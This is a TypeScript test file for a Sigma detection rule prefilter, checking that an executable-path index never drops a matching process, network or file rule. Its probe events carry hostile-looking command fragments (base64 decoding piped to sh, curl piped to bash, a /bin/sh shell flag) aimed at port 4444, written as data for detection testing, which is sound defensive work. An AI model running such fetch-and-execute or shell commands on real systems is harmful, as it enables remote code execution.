import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fromRoot } from '../../common/paths.js';
import type { EnrichedEventInput } from '../../schemas/generated/enriched_event.js';
import { loadSigmaDirectory } from './loader.js';
import { indexRules } from './prefilter.js';

const rules = loadSigmaDirectory(fromRoot('correlator/sigma/rules')).loaded;

/** Events built from the rules' own literals: every image suffix, and a command line holding every literal value. */
function probeEvents(category: string): EnrichedEventInput[] {
  const own = rules.filter((r) => r.category === category);
  const suffixes = new Set(own.flatMap((r) => r.imageSuffixes ?? []));
  const images = [...suffixes].map((s) => (s.startsWith('/') ? `/usr${s}` : `/usr/bin/${s}`));
  images.push('/usr/bin/unrelated', '/TMP/UPPER/BASH');
  const words = new Set<string>();
  for (const r of own) for (const w of r.description?.split(/\s+/) ?? []) words.add(w);
  return images.map((exe, i) => ({
    id: `probe-${i}`,
    timestamp: 0,
    event: {
      kind: 'event',
      category: [category === 'process_creation' ? 'process' : category === 'file_event' ? 'file' : 'network'],
      type: ['start', 'creation'],
      dataset: category === 'network_connection' ? 'osprey.flow' : 'osquery.process_events',
    },
    process: {
      pid: i,
      executable: exe,
      command_line: `${exe} -c 'base64 -d | sh; curl http://x | bash; -e /bin/sh'`,
      parent: { executable: '/usr/bin/bash' },
    },
    file: { path: '/etc/cron.d/x' },
    destination: { ip: '203.0.113.9', port: 4444 },
  }));
}

for (const category of ['process_creation', 'network_connection', 'file_event']) {
  test(`the image prefilter never skips a ${category} rule that matches`, () => {
    const own = rules.filter((r) => r.category === category);
    const index = indexRules(own);
    let matched = 0;
    for (const event of probeEvents(category)) {
      const candidates = new Set(index.candidates(event.process?.executable));
      own.forEach((rule, i) => {
        if (!rule.matches(event)) return;
        matched++;
        assert.ok(candidates.has(i), `${rule.title} matches ${event.process?.executable} but was filtered out`);
      });
    }
    assert.ok(matched > 0, 'some rules matched the probes');
  });
}

test('most process_creation rules are indexed by image, and an unrelated executable skips them', () => {
  const own = rules.filter((r) => r.category === 'process_creation');
  const indexed = own.filter((r) => r.imageSuffixes !== null).length;
  assert.ok(indexed >= 90, `${indexed} of ${own.length} indexed`);
  const index = indexRules(own);
  assert.ok(index.candidates('/usr/bin/unrelated-binary').length <= own.length - 90);
  assert.ok(index.candidates('/usr/bin/base64').some((i) => own[i]?.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031'));
  assert.ok(
    index.candidates('/USR/BIN/BASE64').some((i) => own[i]?.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031'),
    'case-insensitive',
  );
});
